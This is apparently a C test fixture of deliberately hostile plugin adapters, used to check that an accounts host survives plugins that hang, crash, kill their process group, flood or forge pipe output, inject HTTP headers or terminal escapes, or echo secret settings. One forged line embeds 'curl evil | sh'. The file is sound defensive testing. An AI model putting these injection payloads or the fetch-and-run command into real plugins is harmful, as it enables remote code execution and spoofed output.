/*
 * hostile.c: adapters that break the rules, one per MODE, for the host's tests.
 *
 *     cc -shared -fPIC -I include -DMODE=MODE_SPIN -DNAME='"spin"' -o spin.so hostile.c
 *
 * Each must be refused at load or end its operation with an error: none may hang or crash
 * the host. The modes that crash or hang while loading cannot be contained in-process: the
 * commands that list adapters load them in a child process (accounts __probe-adapters).
 */
#define _DEFAULT_SOURCE
#include <accounts_adapter.h>

#include <fcntl.h>
#include <pthread.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#define MODE_LOOP 1            /* SEND forever */
#define MODE_SPIN 2            /* step does not return for 30 s (asleep, not burning a core) */
#define MODE_UNKNOWN_RESULT 3  /* returns 42 */
#define MODE_HUGE_MESSAGE 4    /* a 2 MiB message */
#define MODE_NULL_STRING 5     /* a NULL pointer with a length */
#define MODE_BAD_HEADER 6      /* a header value with a line break */
#define MODE_NULL_ENTRY 7      /* the entry returns NULL */
#define MODE_ABI2 8            /* descriptor of ABI 2.0 */
#define MODE_NEWER_MINOR 9     /* descriptor of ABI 1.99 */
#define MODE_V2_SYMBOL 10      /* exports accounts_adapter_v2 only */
#define MODE_NO_ENTRY 11       /* exports nothing */
#define MODE_NO_STEP 12        /* descriptor without step */
#define MODE_NO_SESSION 13     /* session_new returns NULL */
#define MODE_BAD_TOKEN 14      /* OK with a token holding a line break */
#define MODE_WRONG_NAME 15     /* descriptor name differs from the file name */
#define MODE_GARBAGE_ENTRY 16  /* the entry returns a pointer to nowhere */
#define MODE_BAD_STRING 17     /* a descriptor string at address 0x1 with a length */
#define MODE_ABORT_ON_LOAD 18  /* a constructor calls abort() */
#define MODE_HANG_ON_LOAD 19   /* a constructor sleeps for 60 s */
#define MODE_ECHO_SETTINGS 20  /* declares a secret setting; LOGIN returns what it was given */
/* While loading, for the commands that load adapters in child processes (adapters, doctor): */
#define MODE_JUNK_ON_PIPE 21   /* writes a junk line to every pipe it finds */
#define MODE_FORGE_ON_PIPE 22  /* writes answers for FORGED_PATH, with escapes, to every pipe */
#define MODE_FLOOD_PIPE 23     /* writes to every pipe it finds without end or line break */
#define MODE_KILL_GROUP 24     /* kill(0, SIGTERM): its whole process group */
#define MODE_FORK_ON_LOAD 25   /* forks a process that writes its pid to SENTINEL and sleeps */
#define MODE_LATE_ABORT 26     /* a thread that calls abort() 1 s later */
#define MODE_SLOW_LOAD 27      /* a constructor that sleeps 2 s */
/* During an operation (VALIDATE behaves, so that `backend add` takes it): */
#define MODE_EXIT_IN_LOGIN 28      /* LOGIN calls exit(0) */
#define MODE_SEGV_IN_LOGIN 29      /* LOGIN writes through a NULL pointer */
#define MODE_PRINTF_IN_LOGIN 30    /* every step prints on stdout; LOGIN gives a token */
#define MODE_ESCAPE_ON_STDERR 31   /* every step writes escape sequences on stderr; LOGIN gives a token */
#define MODE_ABORT_IN_LOGIN 32     /* LOGIN calls abort() */
#define MODE_RECURSE_IN_LOGIN 33   /* LOGIN recurses until its stack overflows */
#define MODE_SEGV_IN_CHECK 34      /* LOGIN gives a token; CHECK writes through a NULL pointer */
#define MODE_SEGV_IN_LOGOUT 35     /* LOGIN gives a token; LOGOUT writes through a NULL pointer */
#define MODE_EXIT_ON_THREAD 36     /* LOGIN calls exit(0) on a thread it starts, and waits for it */
/* Not hostile, only old: */
#define MODE_OLD_CODE_BIT 37  /* descriptor of ABI 1.0 with bit 0x8 (ONE_TIME_CODE since 1.1) on
                                 its setting otp_field; LOGIN gives a token and the session value
                                 code: "absent" or "given" (what one_time_code held) */

#ifndef MODE
#error "define MODE"
#endif
#ifndef NAME
#define NAME "hostile"
#endif

static int marker;

/* MODE_EXIT_ON_THREAD: exit() from a thread the adapter started. */
static void *exit_on_thread(void *unused) {
  (void)unused;
  exit(0);
}

#if MODE == MODE_ABORT_ON_LOAD
__attribute__((constructor)) static void abort_on_load(void) { abort(); }
#elif MODE == MODE_HANG_ON_LOAD
__attribute__((constructor)) static void hang_on_load(void) { sleep(60); }
#elif MODE == MODE_SLOW_LOAD
__attribute__((constructor)) static void slow_load(void) { sleep(2); }
#elif MODE == MODE_KILL_GROUP
__attribute__((constructor)) static void kill_group(void) { kill(0, SIGTERM); }
#elif MODE == MODE_LATE_ABORT
static void *abort_later(void *unused) {
  (void)unused;
  sleep(1);
  abort();
}
__attribute__((constructor)) static void start_late_abort(void) {
  pthread_t thread;
  pthread_create(&thread, NULL, abort_later, NULL);
}
#elif MODE == MODE_FORK_ON_LOAD
__attribute__((constructor)) static void fork_on_load(void) {
  /* The loading goes on only once the forked process has written its pid: a test can then
     always find it, however slow the machine. */
  int ready[2];
  if (pipe(ready) != 0) return;
  if (fork() != 0) {
    char byte;
    close(ready[1]);
    if (read(ready[0], &byte, 1) < 0) byte = 0;
    close(ready[0]);
    return;
  }
  close(ready[0]);
  char text[32];
  int length = snprintf(text, sizeof text, "%d", (int)getpid());
  int descriptor = open(SENTINEL, O_WRONLY | O_CREAT | O_TRUNC, 0644);
  if (descriptor >= 0) {
    if (write(descriptor, text, (size_t)length) < 0) _exit(1);
    close(descriptor);
  }
  if (write(ready[1], "x", 1) < 0) _exit(1);
  close(ready[1]);
  sleep(30);
  _exit(0);
}
#elif MODE == MODE_JUNK_ON_PIPE || MODE == MODE_FORGE_ON_PIPE || MODE == MODE_FLOOD_PIPE
/* What an adapter can do to the pipe its parent reads: find it with fstat. */
static char flood[1 << 16];
__attribute__((constructor)) static void write_on_pipes(void) {
#if MODE == MODE_JUNK_ON_PIPE
  const char *text = "hello\n";
#elif MODE == MODE_FORGE_ON_PIPE
  const char *text =
      "{\"entry\":{\"path\":\"" FORGED_PATH "\",\"name\":\"example\",\"description\":{\"name\":"
      "\"\\u001b]0;PWNED\\u0007\\u001b[31mFAKE\",\"version\":\"9\",\"summary\":\"all good\","
      "\"abi\":65536,\"path\":\"" FORGED_PATH "\",\"settings\":[]}}}\n"
      "{\"entry\":{\"path\":\"" FORGED_PATH "\",\"name\":\"example\",\"refusal\":\"run: curl evil | sh\"}}\n";
#else
  memset(flood, 'x', sizeof flood);
  const char *text = flood;
#endif
  for (int descriptor = 3; descriptor < 64; descriptor++) {
    struct stat status;
    if (fstat(descriptor, &status) != 0 || !S_ISFIFO(status.st_mode)) continue;
    if (MODE == MODE_FLOOD_PIPE) {
      while (write(descriptor, flood, sizeof flood) > 0) {}
    } else if (write(descriptor, text, strlen(text)) < 0) {
      continue;
    }
  }
}
#endif

/* MODE_ECHO_SETTINGS: the value of api_key this session was given, or "absent". */
static char echoed[64];
static acc_pair echoed_pair[1];

/* The operation of the current session, and the host's services. */
static int32_t operation;
static const acc_host *host;

/* MODE_OLD_CODE_BIT: whether the session was handed a one-time code. */
static const char *code_seen = "absent";
static acc_pair code_pair[1];

static void *session_new(const acc_session_config *config) {
  if (MODE == MODE_NO_SESSION) return NULL;
  operation = config->operation;
  host = config->host;
  if (MODE == MODE_OLD_CODE_BIT) {
    int covered = config->size >= offsetof(acc_session_config, one_time_code) + sizeof(acc_string);
    code_seen = covered && config->one_time_code.length > 0 ? "given" : "absent";
  }
  if (MODE == MODE_ECHO_SETTINGS) {
    strcpy(echoed, "absent");
    for (size_t i = 0; i < config->settings.count; i++) {
      const acc_pair *pair = &config->settings.items[i];
      if (pair->name.length == 7 && memcmp(pair->name.bytes, "api_key", 7) == 0 &&
          pair->value.length < sizeof echoed) {
        memcpy(echoed, pair->value.bytes, pair->value.length);
        echoed[pair->value.length] = '\0';
      }
    }
  }
  return &marker;
}

static char *huge;

/* Deep enough to overflow any thread's stack; the bound is there only to keep the compiler
   from calling it infinite, and the addition from turning it into a loop. */
static volatile int depth_limit = 1 << 30;
__attribute__((unused)) static int recurse(int depth) {
  volatile char pad[256];
  pad[0] = (char)depth;
  if (depth >= depth_limit) return pad[0];
  return recurse(depth + 1) + pad[0];
}

__attribute__((unused)) static int32_t step(void *session, const acc_response *response, acc_step_output *out) {
  (void)session;
  (void)response;
  static const acc_pair bad_header[] = {{ACC_STRING("X-Test"), ACC_STRING("a\r\nX-Injected: 1")}};
  switch (MODE) {
  case MODE_LOOP:
    out->request.method = (acc_string)ACC_STRING("GET");
    out->request.url = (acc_string)ACC_STRING("http://127.0.0.1:9/loop");
    return ACC_STEP_SEND;
  case MODE_SPIN:
    sleep(30);
    return ACC_STEP_OK;
  case MODE_UNKNOWN_RESULT:
    return 42;
  case MODE_HUGE_MESSAGE:
    huge = malloc(2u << 20);
    memset(huge, 'x', 2u << 20);
    out->message.bytes = huge;
    out->message.length = 2u << 20;
    return ACC_STEP_ERROR;
  case MODE_NULL_STRING:
    out->message.bytes = NULL;
    out->message.length = 5;
    return ACC_STEP_ERROR;
  case MODE_BAD_HEADER:
    out->request.method = (acc_string)ACC_STRING("GET");
    out->request.url = (acc_string)ACC_STRING("http://127.0.0.1:9/x");
    out->request.headers.items = bad_header;
    out->request.headers.count = 1;
    return ACC_STEP_SEND;
  case MODE_BAD_TOKEN:
    out->token = (acc_string)ACC_STRING("abc\ndef");
    return ACC_STEP_OK;
  case MODE_EXIT_IN_LOGIN:
    if (operation == ACC_OP_LOGIN) exit(0);
    return ACC_STEP_OK;
  case MODE_SEGV_IN_LOGIN:
    if (operation == ACC_OP_LOGIN) *(volatile int *)(uintptr_t)0x8 = 1;
    return ACC_STEP_OK;
  case MODE_ABORT_IN_LOGIN:
    if (operation == ACC_OP_LOGIN) abort();
    return ACC_STEP_OK;
  case MODE_SEGV_IN_LOGOUT:
    if (operation == ACC_OP_LOGOUT) *(volatile int *)(uintptr_t)0x8 = 1;
    if (operation == ACC_OP_LOGIN) out->token = (acc_string)ACC_STRING("hostile-token");
    return ACC_STEP_OK;
  case MODE_EXIT_ON_THREAD:
    if (operation == ACC_OP_LOGIN) {
      pthread_t thread;
      if (pthread_create(&thread, NULL, exit_on_thread, NULL) == 0) pthread_join(thread, NULL);
    }
    return ACC_STEP_OK;
  case MODE_SEGV_IN_CHECK:
    if (operation == ACC_OP_CHECK) *(volatile int *)(uintptr_t)0x8 = 1;
    if (operation == ACC_OP_LOGIN) out->token = (acc_string)ACC_STRING("hostile-token");
    return ACC_STEP_OK;
  case MODE_RECURSE_IN_LOGIN:
    if (operation == ACC_OP_LOGIN) return recurse(0) == 1 ? ACC_STEP_ERROR : ACC_STEP_OK;
    return ACC_STEP_OK;
  case MODE_PRINTF_IN_LOGIN:
  case MODE_ESCAPE_ON_STDERR:
    if (MODE == MODE_PRINTF_IN_LOGIN) {
      /* Once through stdio's buffer, flushed; once left in it for exit() to flush; once raw. */
      printf("INJECTED-FLUSHED\n");
      fflush(stdout);
      printf("INJECTED-BUFFERED\n");
      if (write(1, "INJECTED-RAW\n", 13) < 0) return ACC_STEP_ERROR;
    } else {
      fprintf(stderr, "\033]0;PWNED\007\033[31mred text\n");
      host->log(ACC_LOG_INFO, (acc_string)ACC_STRING("logged \033[31mthrough the host"));
    }
    if (operation == ACC_OP_LOGIN) out->token = (acc_string)ACC_STRING("hostile-token");
    return ACC_STEP_OK;
  case MODE_OLD_CODE_BIT:
    if (operation != ACC_OP_LOGIN) return ACC_STEP_OK;
    code_pair[0].name = (acc_string)ACC_STRING("code");
    code_pair[0].value = (acc_string){code_seen, strlen(code_seen)};
    out->token = (acc_string)ACC_STRING("old-adapter-token");
    out->session_values.items = code_pair;
    out->session_values.count = 1;
    return ACC_STEP_OK;
  case MODE_ECHO_SETTINGS:
    echoed_pair[0].name = (acc_string)ACC_STRING("api_key");
    echoed_pair[0].value = (acc_string){echoed, strlen(echoed)};
    out->session_values.items = echoed_pair;
    out->session_values.count = 1;
    return ACC_STEP_OK;
  default:
    return ACC_STEP_OK;
  }
}

static void session_free(void *session) { (void)session; }

__attribute__((unused)) static const acc_setting echo_settings[] = {
    {ACC_STRING("base_url"), ACC_STRING("Base URL"), ACC_SETTING_OPTIONAL, ACC_STRING("")},
    {ACC_STRING("api_key"), ACC_STRING("A secret key"), ACC_SETTING_SECRET, ACC_STRING("")},
};

__attribute__((unused)) static const acc_setting old_code_bit_settings[] = {
    {ACC_STRING("base_url"), ACC_STRING("Base URL"), ACC_SETTING_OPTIONAL, ACC_STRING("")},
    {ACC_STRING("otp_field"), ACC_STRING("A field, with a bit 1.0 did not define"),
     ACC_SETTING_OPTIONAL | 0x8u, ACC_STRING("")},
};

static const acc_adapter descriptor = {
#if MODE == MODE_ABI2
    2u << 16,
#elif MODE == MODE_NEWER_MINOR
    1u << 16 | 99,
#elif MODE == MODE_OLD_CODE_BIT
    1u << 16,
#else
    ACC_ADAPTER_ABI_VERSION,
#endif
#if MODE == MODE_WRONG_NAME
    ACC_STRING("someone-else"),
#else
    ACC_STRING(NAME),
#endif
    ACC_STRING("0.0.1"),
#if MODE == MODE_BAD_STRING
    {(const char *)0x1, 12},
#else
    ACC_STRING("misbehaves on purpose"),
#endif
#if MODE == MODE_ECHO_SETTINGS
    echo_settings,
    sizeof echo_settings / sizeof echo_settings[0],
#elif MODE == MODE_OLD_CODE_BIT
    old_code_bit_settings,
    sizeof old_code_bit_settings / sizeof old_code_bit_settings[0],
#else
    NULL,
    0,
#endif
    session_new,
#if MODE == MODE_NO_STEP
    NULL,
#else
    step,
#endif
    session_free,
};

#if MODE == MODE_V2_SYMBOL
const acc_adapter *accounts_adapter_v2(uint32_t host_abi_version) {
  (void)host_abi_version;
  return &descriptor;
}
#elif MODE != MODE_NO_ENTRY
const acc_adapter *accounts_adapter_v1(uint32_t host_abi_version) {
  (void)host_abi_version;
  if (MODE == MODE_NULL_ENTRY) return NULL;
  if (MODE == MODE_GARBAGE_ENTRY) return (const acc_adapter *)(uintptr_t)0x10;
  return &descriptor;
}
#else
const acc_adapter *unrelated_function(void) { return &descriptor; }
#endif
